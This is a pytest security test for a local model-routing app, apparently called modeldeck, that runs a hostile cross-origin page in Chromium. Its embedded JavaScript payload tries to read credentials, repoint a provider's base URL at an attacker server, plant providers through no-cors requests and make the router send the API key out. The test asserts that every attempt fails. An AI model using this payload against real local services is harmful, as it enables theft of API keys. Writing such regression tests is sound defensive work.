"""The drive-by attack, replayed in Chromium: a page from another local origin tries to
read the registry, point a provider at itself and have the router send it the key.

The page (``ATTACK``) runs in a real browser, so CORS, preflights and ``no-cors``
"simple" requests behave exactly as they would for a user who opens a hostile page
while modeldeck runs. The attacker's server records every request it receives.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

from server.router.app import create_router_app
from server.settings import Settings
from tests.browser import LIBRARY, Browser, needs_browser
from tests.conftest import Running
from tests.openai_standin import OpenAIStandin

KEY = "sk-victim-key-0123456789abcdef"

#: Everything a hostile page can try without the user's help; each result is recorded.
ATTACK = """
async () => {
  const { server, router, attacker, model } = ATTACK_ARGS;
  const out = {};
  const attempt = async (name, run) => {
    try { out[name] = await run(); } catch (err) { out[name] = `blocked: ${err.message}`; }
  };
  const json = { 'Content-Type': 'application/json' };
  const plain = { 'Content-Type': 'text/plain' };
  await attempt('readProviders', async () => (await fetch(`${server}/api/providers`)).text());
  await attempt('readWithCookies', async () =>
    (await fetch(`${server}/api/credentials/qwen`, { credentials: 'include' })).text());
  await attempt('readRouterModels', async () => (await fetch(`${router}/v1/models`)).text());
  await attempt('patchBaseUrl', async () => {
    const res = await fetch(`${server}/api/providers/victim`, {
      method: 'PATCH', headers: json, body: JSON.stringify({ baseUrl: `${attacker}/v1` }),
    });
    return `${res.status} ${await res.text()}`;
  });
  // "Simple" requests: sent without a preflight, their answers opaque to the page.
  const blind = (url, body) => fetch(url, {
    method: 'POST', mode: 'no-cors', headers: plain, body: body && JSON.stringify(body),
  }).then((res) => res.type);
  await attempt('plantProvider', () => blind(`${server}/api/providers`,
    { id: 'planted', name: 'Planted', sdkId: 'planted', baseUrl: `${attacker}/v1` }));
  await attempt('plantCredentials', () => blind(`${server}/api/credentials/planted`,
    { token: 'planted-token' }));
  // The router re-reads the registry within a fraction of a second of a write: a real
  // attacker simply keeps trying for a while.
  for (let i = 0; i < 10; i += 1) {
    await attempt('routerCompletion', () => blind(`${router}/v1/chat/completions`,
      { model, messages: [{ role: 'user', content: 'hi' }] }));
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  const socket = (transports) => new Promise((resolve) => {
    const s = io(server, { transports, reconnection: false, timeout: 5000 });
    s.on('connect', () => { resolve('connected'); s.close(); });
    s.on('connect_error', (err) => { resolve(`refused: ${err.message}`); s.close(); });
  });
  out.socketPolling = await socket(['polling']);
  out.socketWebsocket = await socket(['websocket']);
  out.rawWebSocket = await new Promise((resolve) => {
    const url = `${server.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`;
    const ws = new WebSocket(url);
    ws.onopen = () => { resolve('open'); ws.close(); };
    ws.onerror = () => resolve('error');
  });
  await attempt('disableVictim', () => blind(`${server}/api/providers/victim/disable`));
  return out;
}
"""


class Attacker:
    """The hostile origin: serves the page and socket.io-client, records everything else."""

    def __init__(self) -> None:
        self.received: list[dict[str, Any]] = []
        self.server: TestServer | None = None

    async def _page(self, request: web.Request) -> web.Response:
        html = '<!doctype html><title>cats</title><script src="/socket.io.min.js"></script>'
        return web.Response(text=html, content_type="text/html")

    async def _library(self, request: web.Request) -> web.FileResponse:
        return web.FileResponse(LIBRARY)

    async def _record(self, request: web.Request) -> web.Response:
        self.received.append(
            {"path": request.path, "headers": dict(request.headers), "body": await request.text()}
        )
        return web.json_response({"choices": []})

    async def start(self) -> str:
        app = web.Application()
        app.router.add_get("/", self._page)
        app.router.add_get("/socket.io.min.js", self._library)
        app.router.add_route("*", "/v1/{tail:.*}", self._record)
        self.server = TestServer(app, host="127.0.0.1")
        await self.server.start_server()
        return str(self.server.make_url("")).rstrip("/")


@pytest.fixture
async def attacker() -> AsyncIterator[Attacker]:
    evil = Attacker()
    yield evil
    if evil.server is not None:
        await evil.server.close()


@pytest.fixture
async def start_router(db_path) -> AsyncIterator[Callable[[], Awaitable[str]]]:
    """The router over the test's database (start it once the registry is written)."""
    routers: list[TestServer] = []

    async def start() -> str:
        settings = Settings(db=db_path, router_port=0, log_level="WARNING")
        router = TestServer(create_router_app(settings), host="127.0.0.1")
        await router.start_server()
        routers.append(router)
        return str(router.make_url("")).rstrip("/")

    yield start
    for router in routers:
        await router.close()


@needs_browser
async def test_a_page_from_another_origin_cannot_read_write_or_steal_a_key(
    start_server, start_router, browser: Browser, attacker: Attacker
) -> None:
    async with OpenAIStandin(api_key=KEY) as upstream:
        deck: Running = await start_server(no_seed=True)
        for path, body in [
            ("/api/providers", {"id": "victim", "name": "Victim", "sdkId": "victim",
                                "baseUrl": upstream.base_url, "apiKey": KEY}),
            ("/api/models", {"id": "victim-chat", "name": "Victim chat", "type": "chat",
                             "providerId": "victim", "sdkId": "gpt-x"}),
        ]:  # fmt: skip
            status, reply = await deck.api.post(path, body)
            assert status == 201, reply
        router_url = await start_router()
        async with deck.api.session.get(router_url + "/v1/models") as resp:
            routed = [m["id"] for m in (await resp.json())["data"]]
        assert routed == ["victim-chat"]  # the route the attack goes for exists
        page = await attacker.start()
        await browser.do("open", url=page + "/")
        args = {"server": deck.url, "router": router_url, "attacker": page, "model": "victim-chat"}
        script = ATTACK.replace("ATTACK_ARGS", json.dumps(args))
        results = (await browser.do("evaluate", script=f"({script})()", timeout=60))["value"]

        # The page read nothing and its own writes failed...
        for name in ("readProviders", "readWithCookies", "readRouterModels", "patchBaseUrl"):
            assert results[name].startswith("blocked: "), (name, results)
        assert results["socketPolling"].startswith("refused"), results
        assert results["socketWebsocket"].startswith("refused"), results
        assert results["rawWebSocket"] == "error", results
        assert KEY not in json.dumps(results) and "sk-" not in json.dumps(results)

        # ...its blind writes changed nothing...
        status, victim = await deck.api.get("/api/providers/victim")
        assert victim["baseUrl"] == upstream.base_url
        assert victim["hasApiKey"] is True and victim["enabled"] is True
        assert (await deck.api.get("/api/providers/planted"))[0] == 404
        assert (await deck.api.get("/api/credentials/planted"))[1]["hasCredentials"] is False

        # ...and no request, let alone the key, reached the attacker or the provider.
        assert attacker.received == []
        assert upstream.requests == []
        status, health = await deck.api.get("/health")
        assert health["clients"] == 0
